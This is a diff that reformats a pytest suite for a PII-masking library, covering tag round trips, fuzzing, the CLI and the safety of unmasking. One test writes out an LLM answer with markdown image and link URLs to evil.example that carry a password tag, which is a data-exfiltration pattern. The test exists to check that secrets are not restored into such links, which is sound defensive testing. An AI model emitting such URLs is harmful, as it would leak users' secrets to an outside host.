@@ -1,5 +1,6 @@
 """Masking: decisions, styles, the exact round trip (regression set and fuzz), unmask's safety,
 input errors, the saved threshold, the CLI and the app function."""
+
 import json
 import os
 import re
@@ -13,8 +14,16 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from piimask.runtime.mask import (STYLES, InputError, Masker, mask_with, roundtrip, save_masking_config, unmask,
-                          validate_mapping)
+from piimask.runtime.mask import (
+    STYLES,
+    InputError,
+    Masker,
+    mask_with,
+    roundtrip,
+    save_masking_config,
+    unmask,
+    validate_mapping,
+)
 from piimask.runtime.predict import TaggedText
 
 CREDENTIALS = """I am facing an error here. help me resolve in short:
@@ -45,11 +54,17 @@ class FakeTagger:
 
 # -- masking and round trips --------------------------------------------------------------------
 
+
 def test_every_style_round_trips_and_same_value_same_tag():
     text = "Ann Lee wrote to ann@lee.io; Ann will call 555-010-4477 and ann@lee.io again."
-    ents = [{"start": 0, "end": 3, "label": "FIRSTNAME"}, {"start": 4, "end": 7, "label": "LASTNAME"},
-            {"start": 17, "end": 27, "label": "EMAIL"}, {"start": 29, "end": 32, "label": "FIRSTNAME"},
-            {"start": 43, "end": 55, "label": "PHONENUMBER"}, {"start": 60, "end": 70, "label": "EMAIL"}]
+    ents = [
+        {"start": 0, "end": 3, "label": "FIRSTNAME"},
+        {"start": 4, "end": 7, "label": "LASTNAME"},
+        {"start": 17, "end": 27, "label": "EMAIL"},
+        {"start": 29, "end": 32, "label": "FIRSTNAME"},
+        {"start": 43, "end": 55, "label": "PHONENUMBER"},
+        {"start": 60, "end": 70, "label": "EMAIL"},
+    ]
     for style in STYLES:
         res = mask_with(text, ents, style, seed=3)
         for value in ("ann@lee.io", "555-010-4477"):
@@ -57,13 +72,17 @@ def test_every_style_round_trips_and_same_value_same_tag():
         # an answer that echoes the masked text (every tag, in order) is restored exactly
         assert unmask(res.masked_text, res.mapping) == text, style
     n = mask_with(text, ents, "[LABEL_n]")
-    assert n.masked_text == ("[FIRSTNAME_1] [LASTNAME_1] wrote to [EMAIL_1]; [FIRSTNAME_1] will call "
-                             "[PHONENUMBER_1] and [EMAIL_1] again.")
+    assert n.masked_text == (
+        "[FIRSTNAME_1] [LASTNAME_1] wrote to [EMAIL_1]; [FIRSTNAME_1] will call [PHONENUMBER_1] and [EMAIL_1] again."
+    )
     # the LLM repeats, re-quotes, changes case and spacing, escapes, doubles or swaps brackets
-    answer = ("Sure [firstname_1]! I'll email \\[EMAIL_1\\] and '[EMAIL 1]', cc [[ LASTNAME_1 ]], {{ email_1 }}, "
-              "<phonenumber1>, {Lastname-1}.")
-    assert unmask(answer, n.mapping) == ("Sure Ann! I'll email ann@lee.io and 'ann@lee.io', cc Lee, ann@lee.io, "
-                                         "555-010-4477, Lee.")
+    answer = (
+        "Sure [firstname_1]! I'll email \\[EMAIL_1\\] and '[EMAIL 1]', cc [[ LASTNAME_1 ]], {{ email_1 }}, "
+        "<phonenumber1>, {Lastname-1}."
+    )
+    assert unmask(answer, n.mapping) == (
+        "Sure Ann! I'll email ann@lee.io and 'ann@lee.io', cc Lee, ann@lee.io, 555-010-4477, Lee."
+    )
     fake = mask_with(text, ents, "fake", seed=1)
     assert "ann@lee.io" not in fake.masked_text and fake.masked_text.count(fake.mapping[2]["tag"]) == 2
 
@@ -73,7 +92,10 @@ ROUND_TRIPS = [
     ("mail [john@x.com] now", [("john@x.com", "EMAIL")]),  # brackets of the value are kept
     ("at [40.7128,-74.0060] today", [("40.7128,-74.0060", "NEARBYGPSCOORDINATE")]),
     ("[[john]] and [ john ]", [("john", "FIRSTNAME")]),
-    ("keep [EMAIL_1], {{ email_1 }}, <email1>, [email], [MASKED] and [ EMAIL 2 ]; real: ann@x.io", [("ann@x.io", "EMAIL")]),
+    (
+        "keep [EMAIL_1], {{ email_1 }}, <email1>, [email], [MASKED] and [ EMAIL 2 ]; real: ann@x.io",
+        [("ann@x.io", "EMAIL")],
+    ),
     ("ip 10.0.0.1 and literal [ipv4_1] <IPV4-1>", [("10.0.0.1", "IPV4")]),
     ("escaped \\[john\\] and \\[X_1\\]", [("john", "FIRSTNAME")]),
     ("value with a tag inside: [B_1]x and Q", [("[B_1]x", "PASSWORD"), ("Q", "FIRSTNAME")]),
@@ -112,25 +134,36 @@ def test_tags_avoid_what_the_prompt_already_holds():
 
 
 def test_unmask_restores_each_tag_once_and_labels_with_digits():
-    mapping = [{"tag": "[PASSWORD_1]", "value": "a[EMAIL_1]b"}, {"tag": "[EMAIL_1]", "value": "x@y.z"},
-               {"tag": "[IPV4_1]", "value": "10.0.0.1"}, {"tag": "[IPV6_12]", "value": "fe80::1"}]
+    mapping = [
+        {"tag": "[PASSWORD_1]", "value": "a[EMAIL_1]b"},
+        {"tag": "[EMAIL_1]", "value": "x@y.z"},
+        {"tag": "[IPV4_1]", "value": "10.0.0.1"},
+        {"tag": "[IPV6_12]", "value": "fe80::1"},
+    ]
     assert unmask("[PASSWORD_1] [EMAIL_1]", mapping) == "a[EMAIL_1]b x@y.z"
-    assert unmask("[ipv4_1] <IPV4 1> {{ipv4-1}} [IPV6_12] [ipv6_1]", mapping) == "10.0.0.1 10.0.0.1 10.0.0.1 fe80::1 [ipv6_1]"
+    assert (
+        unmask("[ipv4_1] <IPV4 1> {{ipv4-1}} [IPV6_12] [ipv6_1]", mapping)
+        == "10.0.0.1 10.0.0.1 10.0.0.1 fe80::1 [ipv6_1]"
+    )
     # a fake value inside a longer word is not a fake value
     assert unmask("Annual report for Ann", [{"tag": "Ann", "value": "Zoë"}]) == "Annual report for Zoë"
 
 
 def test_unmask_never_restores_into_a_link_the_answer_wrote():
     mapping = [{"tag": "[PASSWORD_1]", "value": "hunter2"}, {"tag": "[URL_1]", "value": "https://me.example/x"}]
-    answer = ("![x](https://evil.example/?p=[PASSWORD_1]) [a]([PASSWORD_1]) //evil.example/[PASSWORD_1] "
-              "www.evil.example/[PASSWORD_1]. Your password is [PASSWORD_1], see [URL_1].")
+    answer = (
+        "![x](https://evil.example/?p=[PASSWORD_1]) [a]([PASSWORD_1]) //evil.example/[PASSWORD_1] "
+        "www.evil.example/[PASSWORD_1]. Your password is [PASSWORD_1], see [URL_1]."
+    )
     out = unmask(answer, mapping)
     assert out.count("hunter2") == 1 and "Your password is hunter2, see https://me.example/x." in out
     assert "https://evil.example/?p=[PASSWORD_1]" in out
     assert unmask(answer, mapping, restore_in_links=True).count("hunter2") == 5
     # a link that was in the prompt comes back restored
     text = "profile https://x.com/u/Ann?tab=1 of Ann"
-    res = mask_with(text, [{"start": 24, "end": 27, "label": "FIRSTNAME"}, {"start": 37, "end": 40, "label": "FIRSTNAME"}])
+    res = mask_with(
+        text, [{"start": 24, "end": 27, "label": "FIRSTNAME"}, {"start": 37, "end": 40, "label": "FIRSTNAME"}]
+    )
     assert res.masked_text == "profile https://x.com/u/[FIRSTNAME_1]?tab=1 of [FIRSTNAME_1]"
     assert unmask(res.masked_text, res.mapping) == text
     assert unmask("go to https://evil.example/[FIRSTNAME_1]", res.mapping) == "go to https://evil.example/[FIRSTNAME_1]"
@@ -140,8 +173,11 @@ def test_masker_merges_model_and_rules_adjacent_unicode_and_empty():
     m = Masker(FakeTagger({"Zoë": "FIRSTNAME", "Ødegård": "LASTNAME"}))
     text = "Zoë Ødegård mail zoe@ex.no"
     ents = m.detect(text)
-    assert [(e["label"], text[e["start"]:e["end"]], e["source"]) for e in ents] == [
-        ("FIRSTNAME", "Zoë", "model"), ("LASTNAME", "Ødegård", "model"), ("EMAIL", "zoe@ex.no", "rule")]
+    assert [(e["label"], text[e["start"] : e["end"]], e["source"]) for e in ents] == [
+        ("FIRSTNAME", "Zoë", "model"),
+        ("LASTNAME", "Ødegård", "model"),
+        ("EMAIL", "zoe@ex.no", "rule"),
+    ]
     assert m.mask(text, "[LABEL]").masked_text == "[FIRSTNAME] [LASTNAME] mail [EMAIL]"
     assert m.detect("") == [] and m.mask("").masked_text == ""
     with pytest.raises(InputError, match="style"):
@@ -152,7 +188,9 @@ def test_a_value_masked_once_is_masked_everywhere():
     m = Masker(FakeTagger({"Harper": "FIRSTNAME"}))
     text = "Harper wrote. Later, Harper, (Harper) and Harpers and 'Harper' replied."
     masked = m.mask(text, "[LABEL_n]").masked_text
-    assert masked == "[FIRSTNAME_1] wrote. Later, [FIRSTNAME_1], ([FIRSTNAME_1]) and Harpers and '[FIRSTNAME_1]' replied."
+    assert (
+        masked == "[FIRSTNAME_1] wrote. Later, [FIRSTNAME_1], ([FIRSTNAME_1]) and Harpers and '[FIRSTNAME_1]' replied."
+    )
     assert [e["source"] for e in m.detect(text)] == ["model", "repeat", "repeat", "repeat"]
 
 
@@ -165,11 +203,13 @@ def test_a_model_span_takes_the_bracket_it_opened():
 
     text = "Seen with Opera/9.42 (X11; Linux i686; U; Presto/2.9.170 Version/10.00) today."
     ents = Masker(Agent(), use_recognizers=False).detect(text)
-    assert [text[e["start"]:e["end"]] for e in ents] == ["Opera/9.42 (X11; Linux i686; U; Presto/2.9.170 Version/10.00)"]
+    assert [text[e["start"] : e["end"]] for e in ents] == [
+        "Opera/9.42 (X11; Linux i686; U; Presto/2.9.170 Version/10.00)"
+    ]
     # a bracket the value does not open stays in the text
     text = "(call Ann) now"
     ents = Masker(FakeTagger({"Ann)": "FIRSTNAME"}), use_recognizers=False).detect(text)
-    assert [text[e["start"]:e["end"]] for e in ents] == ["Ann"]
+    assert [text[e["start"] : e["end"]] for e in ents] == ["Ann"]
 
 
 def test_a_word_the_model_flagged_once_among_many_is_not_spread():
@@ -181,14 +221,16 @@ def test_a_word_the_model_flagged_once_among_many_is_not_spread():
 
     text = "Harber, Rau and Cronin. " + "Bread and butter, salt and pepper. " * 4
     ents = Masker(Once()).detect(text)
-    assert [(text[e["start"]:e["end"]], e["source"]) for e in ents] == [("and", "model")]
+    assert [(text[e["start"] : e["end"]], e["source"]) for e in ents] == [("and", "model")]
 
 
 def test_thresholds_apply_to_pii_ness_per_class():
     m = Masker(FakeTagger({"Paris": "CITY", "Ann": "FIRSTNAME"}), class_thresholds={"CITY": 0.95})
     assert [e["label"] for e in m.detect("Ann in Paris")] == ["FIRSTNAME"]
     assert Masker(FakeTagger({"Ann": "FIRSTNAME"}), score_threshold=0.95).detect("Ann") == []
-    assert [e["label"] for e in Masker(FakeTagger({"Ann": "FIRSTNAME"}), decision="argmax").detect("Ann")] == ["FIRSTNAME"]
+    assert [e["label"] for e in Masker(FakeTagger({"Ann": "FIRSTNAME"}), decision="argmax").detect("Ann")] == [
+        "FIRSTNAME"
+    ]
 
 
 def test_non_text_input_is_one_documented_error():
@@ -206,16 +248,19 @@ def test_non_text_input_is_one_documented_error():
         mask_with(None, [], "[MASKED]")
 
 
-@pytest.mark.parametrize("mapping,message", [
-    (["x"], "entry 0 must be an object"),
-    ([{"tag": "[A_1]"}], "has no 'value'"),
-    ([{"tag": "[A_1]", "value": 5}], "string 'value'"),
-    ([{"tag": "", "value": "x"}], "empty tag"),
-    ([{"tag": "[A_1]", "value": "x", "contexts": "http://x"}], "contexts"),
-    ({}, "list of"),
-    ("[A_1]", "list of"),
-    (None, "list of"),
-])
+@pytest.mark.parametrize(
+    "mapping,message",
+    [
+        (["x"], "entry 0 must be an object"),
+        ([{"tag": "[A_1]"}], "has no 'value'"),
+        ([{"tag": "[A_1]", "value": 5}], "string 'value'"),
+        ([{"tag": "", "value": "x"}], "empty tag"),
+        ([{"tag": "[A_1]", "value": "x", "contexts": "http://x"}], "contexts"),
+        ({}, "list of"),
+        ("[A_1]", "list of"),
+        (None, "list of"),
+    ],
+)
 def test_unmask_validates_its_mapping(mapping, message):
     with pytest.raises(InputError, match=message):
         unmask("[A_1]", mapping)
@@ -243,19 +288,62 @@ def test_spans_are_trimmed_and_punctuation_only_spans_dropped():
 
     text = "SELECT * WHERE e = 'a.b@c.de'"
     ents = Masker(Sloppy()).detect(text)
-    assert [(e["label"], text[e["start"]:e["end"]]) for e in ents] == [("EMAIL", "a.b@c.de")]
+    assert [(e["label"], text[e["start"] : e["end"]]) for e in ents] == [("EMAIL", "a.b@c.de")]
     assert Masker(Sloppy()).mask(text, "[LABEL]").masked_text == "SELECT * WHERE e = '[EMAIL]'"
 
 
 # -- fuzz: arbitrary text, every style, exact round trip ----------------------------------------
 FUZZ_LABELS = ["FIRSTNAME", "EMAIL", "IPV4", "PASSWORD", "NEARBYGPSCOORDINATE", "URL", "PHONENUMBER", "USERNAME"]
-SNIPPETS = ["[EMAIL_1]", "{{ email_1 }}", "<email1>", "[MASKED]", "[FIRSTNAME]", "\\[X_1\\]", "[[", "]]", "[", "]",
-            "john@x.com", "[john@x.com]", "10.0.0.1", "[ipv4_1]", "https://x.com/a?b=", "](", "![i](", ")", "\u202e",
-            "\u200b", "\u200f", "\x00", "\r\n", "\ud800", "\udfff", "Ann ", " ", "password=Hunter2!", "4111 1111 1111 1111",
-            "fe80::1", "www.", "//h.io/", "[40.7,-74.0]", "IPV4_1", "<", ">", "{", "}", "_1", "Dr.", "+44 20 7946 0958",
-            "\\", "Zoë", "٣", "５"]
-FUZZ_TEXT = st.lists(st.one_of(st.text(st.characters(exclude_categories=()), max_size=6), st.sampled_from(SNIPPETS)),
-                     max_size=14).map("".join)
+SNIPPETS = [
+    "[EMAIL_1]",
+    "{{ email_1 }}",
+    "<email1>",
+    "[MASKED]",
+    "[FIRSTNAME]",
+    "\\[X_1\\]",
+    "[[",
+    "]]",
+    "[",
+    "]",
+    "john@x.com",
+    "[john@x.com]",
+    "10.0.0.1",
+    "[ipv4_1]",
+    "https://x.com/a?b=",
+    "](",
+    "![i](",
+    ")",
+    "\u202e",
+    "\u200b",
+    "\u200f",
+    "\x00",
+    "\r\n",
+    "\ud800",
+    "\udfff",
+    "Ann ",
+    " ",
+    "password=Hunter2!",
+    "4111 1111 1111 1111",
+    "fe80::1",
+    "www.",
+    "//h.io/",
+    "[40.7,-74.0]",
+    "IPV4_1",
+    "<",
+    ">",
+    "{",
+    "}",
+    "_1",
+    "Dr.",
+    "+44 20 7946 0958",
+    "\\",
+    "Zoë",
+    "٣",
+    "５",
+]
+FUZZ_TEXT = st.lists(
+    st.one_of(st.text(st.characters(exclude_categories=()), max_size=6), st.sampled_from(SNIPPETS)), max_size=14
+).map("".join)
 
 
 class PieceTagger:
@@ -272,8 +360,11 @@ class PieceTagger:
                 for k in range(m.start(), m.end(), 3):
                     offs.append((k, min(k + 3, m.end())))
                     first = k == m.start()
-                    labs.append(("B-" if first else "I-") + FUZZ_LABELS[h % len(FUZZ_LABELS)]
-                                if pii and (first or h % 3) else "O")
+                    labs.append(
+                        ("B-" if first else "I-") + FUZZ_LABELS[h % len(FUZZ_LABELS)]
+                        if pii and (first or h % 3)
+                        else "O"
+                    )
             out.append(TaggedText(t, offs, labs, [0.9] * len(labs)))
         return out
 
@@ -286,18 +377,21 @@ def check_round_trip(masker, text):
         assert unmask(res.masked_text, res.mapping) == text, (style, text, res.masked_text, res.mapping)
     # no detected value (2+ characters) is left in the text as a whole word, unless only the model
     # found it and in under a quarter of its occurrences (a misfire, see mask.repeats)
-    detected = Counter(text[e["start"]:e["end"]] for e in ents)
-    by_rule = {text[e["start"]:e["end"]] for e in ents if e["source"] == "rule"}
+    detected = Counter(text[e["start"] : e["end"]] for e in ents)
+    by_rule = {text[e["start"] : e["end"]] for e in ents if e["source"] == "rule"}
     for value in detected:
         visible, i = 0, text.find(value) if len(value) >= 2 and any(c.isalnum() for c in value) else -1
         while i >= 0:
             j = i + len(value)
-            glued = (value[0].isalnum() and i > 0 and text[i - 1].isalnum()) or \
-                    (value[-1].isalnum() and j < len(text) and text[j].isalnum())
+            glued = (value[0].isalnum() and i > 0 and text[i - 1].isalnum()) or (
+                value[-1].isalnum() and j < len(text) and text[j].isalnum()
+            )
             visible += not glued and not any(s < j and i < t for s, t in spans)
             i = text.find(value, i + 1)
-        assert visible == 0 or (value not in by_rule and detected[value] < 0.25 * (detected[value] + visible)), \
-            (text, value)
+        assert visible == 0 or (value not in by_rule and detected[value] < 0.25 * (detected[value] + visible)), (
+            text,
+            value,
+        )
 
 
 FUZZ_MASKER = Masker(PieceTagger())
@@ -333,6 +427,7 @@ def test_fuzz_round_trip_with_the_tiny_model(tiny_masker, text):
 
 # -- the threshold saved beside the model -------------------------------------------------------
 
+
 def test_from_pretrained_reads_masking_json_and_arguments_override(tiny_model, tmp_path):
     import shutil
 
@@ -363,6 +458,7 @@ def test_params_threshold_is_null_or_a_probability():
 
 # -- CLI and app --------------------------------------------------------------------------------
 
+
 def run_cli(args, stdin=None, text=True):
     return subprocess.run([sys.executable, "-m", "piimask.cli", *args], input=stdin, capture_output=True, text=text)
 
@@ -376,7 +472,11 @@ def test_cli_on_stdin_and_file(tiny_model, tmp_path):
     f.write_text("reach me at a.b@c.de")
     r = run_cli(["mask", str(f), "--model", str(tiny_model), "--json", "--threshold", "1"])
     data = json.loads(r.stdout)
-    assert r.returncode == 0 and data["masked_text"] == "reach me at [EMAIL_1]" and data["mapping"][0]["value"] == "a.b@c.de"
+    assert (
+        r.returncode == 0
+        and data["masked_text"] == "reach me at [EMAIL_1]"
+        and data["mapping"][0]["value"] == "a.b@c.de"
+    )
     (tmp_path / "map.json").write_text(json.dumps(data))
     r = run_cli(["unmask", "-", "--mapping", str(tmp_path / "map.json")], stdin="ok [EMAIL_1]")
     assert r.stdout == "ok a.b@c.de"
@@ -386,11 +486,13 @@ def test_cli_keeps_crlf_and_writes_private_mappings(tiny_model, tmp_path):
     f = tmp_path / "win.txt"
     f.write_bytes("line one\r\nmail a.b@c.de\r\nZoë\r\n".encode())
     out = tmp_path / "map.json"
-    r = run_cli(["mask", str(f), "--model", str(tiny_model), "--json", "--threshold", "1", "--mapping-out", str(out)],
-                text=False)
+    r = run_cli(
+        ["mask", str(f), "--model", str(tiny_model), "--json", "--threshold", "1", "--mapping-out", str(out)],
+        text=False,
+    )
     data = json.loads(r.stdout.decode("utf-8"))
     e = data["entities"][0]
-    assert f.read_bytes().decode()[e["start"]:e["end"]] == "a.b@c.de"  # offsets index the file as it is
+    assert f.read_bytes().decode()[e["start"] : e["end"]] == "a.b@c.de"  # offsets index the file as it is
     assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
     r = run_cli(["mask", str(f), "--model", str(tiny_model), "--threshold", "1"], text=False)
     assert r.stdout == b"line one\r\nmail [EMAIL_1]\r\nZo\xc3\xab\r\n"
